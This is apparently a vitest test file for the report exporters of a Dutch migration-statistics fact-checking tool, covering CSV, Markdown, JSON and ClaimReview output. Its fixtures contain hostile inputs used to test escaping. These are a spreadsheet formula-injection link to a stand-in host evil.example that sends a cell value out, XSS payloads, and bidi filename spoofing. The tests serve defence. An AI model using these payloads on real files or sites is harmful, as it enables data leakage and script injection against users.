import { describe, expect, it } from 'vitest';
import mini from '../../test/fixtures/packs/mini-pack.json';
import { indexSnapshot } from '../factbase/snapshot-index';
import { snapshotFromPacks } from '../factbase/memory';
import { parsePack } from '../factbase/validate';
import { loadBundledPacks, withBundledRefines } from '../factbase/bundled';
import { compileLexicon, recognise } from '../recognise/recognise';
import type { Annotation } from '../recognise/types';
import {
  AUTHOR_PLACEHOLDER,
  buildPageReport,
  claimReviews,
  CSV_COLUMNS,
  csvCells,
  exportFile,
  hostPart,
  MARKDOWN_COLUMNS,
  reportFilename,
  sentenceAround,
  toClaimReviewJsonLd,
  toCsv,
  toJson,
  toMarkdown,
  type PageReport,
} from './index';

const index = indexSnapshot(snapshotFromPacks([parsePack(mini)]));

/** A tiny RFC 4180 parser: quoted fields, doubled quotes, CRLF records, LF/CR inside quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i++;
      } else {
        field += c;
        i++;
      }
    } else if (c === '"') {
      if (field !== '') throw new Error(`quote inside an unquoted field at ${i}`);
      quoted = true;
      i++;
    } else if (c === ',') {
      row.push(field);
      field = '';
      i++;
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else if (c === '\r' || c === '\n') {
      throw new Error(`bare line break outside quotes at ${i}`);
    } else {
      field += c;
      i++;
    }
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (field !== '' || row.length) throw new Error('last record not terminated by CRLF');
  return rows;
}

/** Cells of a Markdown table line, splitting on `|` that are not backslash-escaped. */
function markdownCells(line: string): string[] {
  const cells: string[] = [];
  let cur = '';
  for (let i = 0; i < line.length; i++) {
    if (line[i] === '\\') {
      cur += line[i] + (line[i + 1] ?? '');
      i++;
    } else if (line[i] === '|') {
      cells.push(cur);
      cur = '';
    } else cur += line[i];
  }
  cells.push(cur);
  return cells.slice(1, -1); // outside the leading and trailing pipe
}

const HOSTILE =
  '=HYPERLINK("https://evil.example/?x="&A1,"klik") | <img src=x onerror=alert(1)> zegt "ruim" 530 \u202Efdp.exe\u202C her\u200Bvestigd\r\nnieuwe regel\tmet tab @SUM(1) *vet* [link](javascript:alert(1)) `code` \\| ~~weg~~ $x$';

const figure = (over: Partial<Annotation>): Annotation => ({
  kind: 'figure',
  start: 0,
  end: 3,
  text: '530',
  concept: 'resettlement',
  value: 530,
  unit: 'count',
  qualifier: 'approximately',
  year: 2018,
  period: '2018',
  geo: 'NL',
  factIds: ['resettled-2018-national'],
  verdict: 'consistent',
  comparison: { verdict: 'consistent', factId: 'resettled-2018-national', sourceValue: 530 },
  ...over,
});

function report(lang: 'nl' | 'en' = 'en', sentence = HOSTILE): PageReport {
  const annotations: Annotation[] = [
    figure({}),
    figure({
      text: '-1325',
      value: -1325,
      verdict: 'differs',
      comparison: { verdict: 'differs', factId: 'resettled-2018-national', sourceValue: 530, diffAbs: -1855, diffRel: -3.5 },
    }),
    figure({ period: '2023', year: 2023, verdict: 'context', comparison: { verdict: 'context', factId: 'resettled-2018-national' } }),
    { kind: 'term', start: 0, end: 11, text: 'hervestigd', concept: 'resettlement' },
    { kind: 'number', start: 0, end: 2, text: '12', concept: null, value: 12, unit: 'count', qualifier: 'exact' },
  ];
  return buildPageReport(
    {
      url: 'https://www.NOS.nl/artikel/123?q=<x>&a=1',
      title: 'Asiel | "instroom" <script>alert(1)</script>',
      lang,
      published: '2019-10-15',
      checkedAt: new Date('2026-02-03T10:20:30Z'),
      annotations,
      sentences: annotations.map(() => sentence),
    },
    index,
  );
}

describe('buildPageReport', () => {
  it('makes one row per annotation with the figure, verdict, source and citations', () => {
    const r = report('nl');
    expect(r).toMatchObject({ format: 'migration-lens/page-report', formatVersion: 1, checkedAt: '2026-02-03T10:20:30.000Z', lang: 'nl', page: { published: '2019-10-15' } });
    expect(r.rows).toHaveLength(5);
    expect(r.rows[0]).toMatchObject({
      index: 1,
      kind: 'figure',
      asWritten: '530',
      understood: '≈ 530',
      conceptId: 'resettlement',
      conceptLabel: 'Hervestiging',
      pillar: 5,
      period: '2018',
      geo: 'NL',
      verdict: 'consistent',
      sourceFigure: '≈ 530 (2018, NL)',
      sourceValue: 530,
      difference: null,
      source: {
        factId: 'resettled-2018-national',
        title: 'Voortgang integrale migratieagenda',
        publisher: 'Staatssecretaris van Justitie en Veiligheid',
        date: '2019-10-14',
        reference: 'Kamerstuk 19 637, nr. 2535',
        locator: 'Pijler 5',
        quote: expect.stringContaining('ongeveer 530 vluchtelingen'),
      },
    });
    expect(r.rows[0].citations?.plain.nl).toMatch(/^Voortgang integrale migratieagenda, Staatssecretaris van Justitie en Veiligheid, 14 oktober 2019, Kamerstuk 19 637, nr\. 2535\. \(vindplaats: Pijler 5\) Citaat: “In 2018/);
    expect(r.rows[0].citations?.apa.en).toMatch(/^Staatssecretaris van Justitie en Veiligheid\. \(2019, October 14\)\. Voortgang integrale migratieagenda \(Kamerstuk 19 637, nr\. 2535\)\./);
    expect(r.rows[1]).toMatchObject({ verdict: 'differs', differenceAbs: -1855, differenceRel: -3.5, difference: '−1.855 (−350%)' });
    expect(r.rows[2]).toMatchObject({ verdict: 'context', period: '2023', sourceFigure: '≈ 530 (2018, NL)' });
    expect(r.rows[3]).toMatchObject({ kind: 'term', understood: null, conceptLabel: 'Hervestiging', source: { factId: null, quote: null }, citations: { plain: { en: expect.stringContaining('14 October 2019') } } });
    expect(r.rows[4]).toMatchObject({ kind: 'number', conceptId: null, source: null, citations: null });
  });

  it('cuts each sentence from the text when only the text is given', () => {
    const text = 'Eerste zin. In 2018 zijn ongeveer 530 vluchtelingen hervestigd. Derde zin.';
    const start = text.indexOf('530');
    const r = buildPageReport({ url: 'https://x.nl', title: 't', lang: 'nl', annotations: [figure({ start, end: start + 3 })], text }, index);
    expect(r.rows[0].sentence).toBe('In 2018 zijn ongeveer 530 vluchtelingen hervestigd.');
    expect(Date.parse(r.checkedAt)).not.toBeNaN();
  });
});

describe('sentenceAround', () => {
  const at = (text: string, needle: string) => {
    const s = text.indexOf(needle);
    return sentenceAround(text, s, s + needle.length);
  };
  it('finds sentence ends but not decimal points, abbreviations or initials', () => {
    expect(at('Vorig jaar. Er kwamen ruim 38.000 asielzoekers. Dat is veel!', '38.000')).toBe('Er kwamen ruim 38.000 asielzoekers.');
    expect(at('Zie Kamerstuk 19 637, nr. 2535 voor ca. 40 procent. Volgende.', '40 procent')).toBe('Zie Kamerstuk 19 637, nr. 2535 voor ca. 40 procent.');
    expect(at('Minister J. de Vries zei: “Het waren er 530.” Daarna niets.', '530')).toBe('Minister J. de Vries zei: “Het waren er 530.”');
    expect(at('Why? Because 12 % left… Then more.', '12 %')).toBe('Because 12 % left…');
    expect(at('Kop zonder punt\nTekst met 530 mensen\nVolgende blok', '530')).toBe('Tekst met 530 mensen');
    expect(at('Geen einde met   530\n\n', '530')).toBe('Geen einde met 530');
    expect(sentenceAround('abc', 10, 20)).toBe('abc');
  });
  it('cuts a very long sentence to a window around the annotation', () => {
    const long = 'woord '.repeat(400) + 'en 530 mensen ' + 'meer '.repeat(400) + '.';
    const s = at(long, '530');
    expect(s.length).toBeLessThanOrEqual(602);
    expect(s).toMatch(/^….* en 530 mensen .*…$/);
  });
});

describe('CSV', () => {
  it('parses back (RFC 4180) to the same cells, with the header first and CRLF records', () => {
    const r = report();
    const csv = toCsv(r);
    expect(csv.endsWith('\r\n')).toBe(true);
    const parsed = parseCsv(csv);
    expect(parsed).toEqual(csvCells(r));
    expect(parsed[0]).toEqual(CSV_COLUMNS.map((c) => c.name));
    for (const row of parsed) expect(row).toHaveLength(CSV_COLUMNS.length);
  });

  it('neutralises formula cells from the page, keeps numbers numeric, removes bidi and invisible characters', () => {
    const r = report();
    const rows = parseCsv(toCsv(r));
    const col = (name: string) => rows[0].indexOf(name);
    const sentence = rows[1][col('sentence')];
    expect(sentence.startsWith(`'=HYPERLINK("https://evil.example/?x="&A1,"klik")`)).toBe(true);
    expect(sentence).not.toMatch(/[\u202A-\u202E\u200B\r]/);
    expect(sentence).toContain('fdp.exe herverstigd'.replace('herverstigd', 'hervestigd'));
    expect(sentence).toContain('\nnieuwe regel\tmet tab');
    expect(sentence).toContain('<img src=x onerror=alert(1)>'); // text in a cell, no HTML context
    // Numbers are numbers, negative ones too, without an apostrophe; text starting with "-" gets one.
    expect(rows[2][col('value')]).toBe('-1325');
    expect(rows[2][col('difference_abs')]).toBe('-1855');
    expect(rows[2][col('as_written')]).toBe(`'-1325`);
    expect(toCsv(r)).toContain(',-1325,');

    for (const [input, expected] of [
      ['=1+1', `'=1+1`],
      ['+31 6', `'+31 6`],
      ['-5', `'-5`],
      ['@SUM(A1)', `'@SUM(A1)`],
      ['\t=1', `'\t=1`],
      ['\r=1', `'\n=1`],
      ['  =1', `'  =1`],
      ['\u202E=1', `'=1`],
      ['\u200B=cmd', `'=cmd`],
      ['＝1', `'＝1`],
      ['a=1', 'a=1'],
      ['−2,1%', '−2,1%'],
      ['', ''],
    ] as const) {
      const cells = csvCells(report('en', input));
      expect(cells[1][col('sentence')], JSON.stringify(input)).toBe(expected);
      expect(parseCsv(toCsv(report('en', input)))[1][col('sentence')]).toBe(expected);
    }
  });

  it('adds a byte order mark only when asked (downloads)', () => {
    expect(toCsv(report()).charCodeAt(0)).not.toBe(0xfeff);
    expect(toCsv(report(), { bom: true }).charCodeAt(0)).toBe(0xfeff);
    expect(exportFile(report(), 'csv').text.charCodeAt(0)).toBe(0xfeff);
    expect(exportFile(report(), 'csv', { clipboard: true }).text.charCodeAt(0)).not.toBe(0xfeff);
  });
});

describe('Markdown', () => {
  it('has the same number of columns on every table line and renders no page text as HTML or Markdown', () => {
    for (const lang of ['nl', 'en'] as const) {
      const md = toMarkdown(report(lang));
      const table = md.split('\n').filter((l) => l.startsWith('|'));
      expect(table).toHaveLength(2 + 5);
      for (const line of table) expect(markdownCells(line), line).toHaveLength(MARKDOWN_COLUMNS);
      // No raw markup from the page: every < and > is an entity, every special escaped.
      expect(md).not.toMatch(/<(?!br>)/);
      expect(md).not.toMatch(/(?<!br)>/);
      expect(md).toContain('&lt;img src=x onerror=alert(1)&gt;');
      expect(md).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
      expect(md).toContain('\\*vet\\*');
      expect(md).toContain('\\[link\\](javascript:alert(1))');
      expect(md).toContain('\\`code\\`');
      expect(md).toContain('\\\\\\|');
      expect(md).toContain('\\~\\~weg\\~\\~ \\$x\\$');
      expect(md).toContain('Asiel \\| "instroom"');
      expect(md).toContain('hervestigd<br>nieuwe regel met tab');
      expect(md).not.toMatch(/[\u202A-\u202E\u200B\r\t]/);
      expect(md).toContain('&amp;A1');
    }
  });

  it('says so when nothing was recognised', () => {
    const empty = buildPageReport({ url: 'https://x.nl', title: 'Leeg', lang: 'nl', annotations: [] }, index);
    expect(toMarkdown(empty)).toContain('Op deze pagina zijn geen cijfers of termen herkend.');
  });
});

describe('JSON', () => {
  it('parses back to the same report, with dangerous characters escaped in the text', () => {
    const r = report();
    const json = toJson(r);
    expect(JSON.parse(json)).toEqual(r);
    expect(json).not.toMatch(/[<>&\u202A-\u202E\u200B\u2028\u2029]/);
    expect(json).toContain('\\u003cimg src=x onerror=alert(1)\\u003e');
    expect(json).toContain('\\u202e');
    const parsed = JSON.parse(json) as PageReport;
    expect(Object.keys(parsed)).toEqual(['format', 'formatVersion', 'page', 'checkedAt', 'lang', 'rows']);
    expect(parsed.rows[0].sentence).toBe(HOSTILE);
    expect(Object.keys(parsed.rows[0])).toEqual(
      expect.arrayContaining(['kind', 'sentence', 'asWritten', 'understood', 'conceptId', 'conceptLabel', 'period', 'geo', 'verdict', 'sourceFigure', 'source', 'citations']),
    );
  });
});

describe('ClaimReview JSON-LD', () => {
  it('drafts one ClaimReview per figure with a verdict (consistent or differs), with the required keys', () => {
    const r = report();
    const text = toClaimReviewJsonLd(r);
    expect(text).not.toMatch(/[<>&\u202A-\u202E]/);
    const reviews = JSON.parse(text);
    expect(reviews).toEqual(claimReviews(r));
    // consistent and differs; not the figure given context (no verdict to review), the term or the plain number
    expect(reviews).toHaveLength(2);
    for (const cr of reviews) {
      expect(cr).toMatchObject({
        '@context': 'https://schema.org',
        '@type': 'ClaimReview',
        url: '',
        datePublished: '2026-02-03',
        author: { '@type': 'Organization', name: AUTHOR_PLACEHOLDER },
        claimReviewed: HOSTILE,
        itemReviewed: {
          '@type': 'Claim',
          datePublished: '2019-10-15',
          appearance: { '@type': 'CreativeWork', url: 'https://www.NOS.nl/artikel/123?q=<x>&a=1' },
        },
        reviewRating: { '@type': 'Rating', bestRating: 3, worstRating: 1 },
        citation: { '@type': 'CreativeWork', name: 'Voortgang integrale migratieagenda', publisher: { name: 'Staatssecretaris van Justitie en Veiligheid' }, datePublished: '2019-10-14', identifier: 'Kamerstuk 19 637, nr. 2535' },
      });
      expect(cr.isBasedOn).toEqual(cr.citation);
    }
    expect(reviews.map((x: any) => [x.reviewRating.ratingValue, x.reviewRating.alternateName])).toEqual([
      [3, 'Consistent with the source'],
      [1, 'Differs from the source'],
    ]);
    expect(reviews[1].reviewBody).toMatch(/Difference: −1,855/);
    expect(JSON.parse(toClaimReviewJsonLd(report('nl')))[1].reviewRating.alternateName).toBe('Wijkt af van de bron');
  });
});

describe('file names', () => {
  it('names files after the host and the date of the check', () => {
    const r = report();
    expect(reportFilename(r, 'csv')).toBe('migration-lens-nos.nl-2026-02-03.csv');
    expect(reportFilename(r, 'markdown')).toBe('migration-lens-nos.nl-2026-02-03.md');
    expect(reportFilename(r, 'json')).toBe('migration-lens-nos.nl-2026-02-03.json');
    expect(reportFilename(r, 'claimreview')).toBe('migration-lens-nos.nl-2026-02-03-claimreview.jsonld');
    expect(hostPart('not a url')).toBe('page');
    expect(hostPart('https://xn--bcher-kva.example/')).toBe('xn--bcher-kva.example');
    expect(hostPart('http://127.0.0.1:8080/x')).toBe('127.0.0.1');
    expect(exportFile(r, 'claimreview')).toMatchObject({ mimeType: 'application/ld+json;charset=utf-8', filename: expect.stringMatching(/jsonld$/) });
  });
});

describe('from the engine to every format', () => {
  it('exports what recognise finds in a hostile page text, each format valid', async () => {
    const { compileLexicon, recognise } = await import('../recognise/recognise');
    const snap = snapshotFromPacks([parsePack(mini)]);
    const text =
      'Kop <img src=x onerror=alert(1)>\n=HYPERLINK("x") In 2018 zijn ongeveer 530 vluchtelingen hervestigd | "echt". Daarna \u202Eniets\u202C.';
    const { annotations } = recognise(text, compileLexicon(snap), { lang: 'nl' });
    expect(annotations.length).toBeGreaterThan(0);
    const r = buildPageReport({ url: 'https://example.org/a', title: 'T', lang: 'nl', annotations, text }, indexSnapshot(snap));
    for (const row of r.rows) expect(row.sentence).toBe('=HYPERLINK("x") In 2018 zijn ongeveer 530 vluchtelingen hervestigd | "echt".');
    expect(parseCsv(toCsv(r))).toEqual(csvCells(r));
    expect(parseCsv(toCsv(r))[1][CSV_COLUMNS.findIndex((c) => c.name === 'sentence')]).toMatch(/^'=HYPERLINK/);
    for (const line of toMarkdown(r).split('\n').filter((l) => l.startsWith('|'))) expect(markdownCells(line)).toHaveLength(MARKDOWN_COLUMNS);
    expect(JSON.parse(toJson(r))).toEqual(r);
    const figureRow = r.rows.find((x) => x.kind === 'figure');
    // Which verdict the engine gives is the engine's business; a row with one cites its fact.
    expect(figureRow).toMatchObject({ asWritten: 'ongeveer 530', understood: '≈ 530' });
    for (const row of r.rows) if (row.verdict) expect(row.source?.factId).toBeTruthy();
    // A ClaimReview draft only for a verdict (consistent or differs), never for context.
    expect(JSON.parse(toClaimReviewJsonLd(r))).toHaveLength(r.rows.filter((x) => x.kind !== 'term' && (x.verdict === 'consistent' || x.verdict === 'differs')).length);
  });
});

describe('what the engine read, in every export', () => {
  it('CSV has the claim in words and why no verdict was given; JSON carries the claim frame', () => {
    const snap = snapshotFromPacks(loadBundledPacks());
    const lex = compileLexicon(withBundledRefines(snap));
    const index = indexSnapshot(snap);
    const text = 'Het ministerie verwacht dat volgend jaar 50.000 mensen voor het eerst asiel aanvragen. Vorig jaar dienden ruim 38.000 mensen hun eerste asielaanvraag in.';
    const annotations = recognise(text, lex, { lang: 'nl', published: '2024-03-01' }).annotations.filter((a) => a.kind === 'figure');
    const r = buildPageReport({ url: 'https://example.org/a', title: 'A', lang: 'nl', published: '2024-03-01', annotations, text }, index);
    const [forecast, realised] = r.rows;
    expect(forecast.readAs).toContain('verwachting');
    expect(forecast.why).toMatch(/geen telling/);
    expect(realised.readAs).toBe('eerste asielaanvragen · NL · 2023 · gerealiseerd · ruim 38.000');
    expect(realised.why).toBeNull();
    const at = text.indexOf('Vorig jaar');
    expect(realised.claim?.period).toMatchObject({ value: '2023', words: [[at, at + 10]] });
    const csv = toCsv(r);
    const header = csv.split(/\r?\n/)[0].split(',').map((h) => h.replace(/"/g, ''));
    expect(header).toEqual(expect.arrayContaining(['read_as', 'why_no_verdict', 'source_as_of']));
    expect(csv).toContain('eerste asielaanvragen · NL · 2023 · gerealiseerd · ruim 38.000');
    expect(toClaimReviewJsonLd(r)).not.toContain('50.000');
  });
  it('a differs that is another year\'s figure says which in the CSV, the Markdown and the JSON', () => {
    const snap = snapshotFromPacks(loadBundledPacks());
    const lex = compileLexicon(withBundledRefines(snap));
    const text = 'In 2022 vroegen in Nederland 24.700 personen voor het eerst asiel aan.';
    const annotations = recognise(text, lex, { lang: 'nl', published: '2023-03-10' }).annotations.filter((a) => a.kind === 'figure');
    const r = buildPageReport({ url: 'https://example.org/b', title: 'B', lang: 'nl', published: '2023-03-10', annotations, text }, indexSnapshot(snap));
    expect(r.rows[0]).toMatchObject({ verdict: 'differs', why: null, otherPeriod: expect.stringMatching(/^het getal is gelijk aan .*2021/) });
    const csv = parseCsv(toCsv(r));
    expect(csv[1][csv[0].indexOf('other_period')]).toBe(r.rows[0].otherPeriod);
    expect(toMarkdown(r)).toContain(r.rows[0].otherPeriod!);
    expect(JSON.parse(toJson(r)).rows[0].otherPeriod).toBe(r.rows[0].otherPeriod);
  });
});

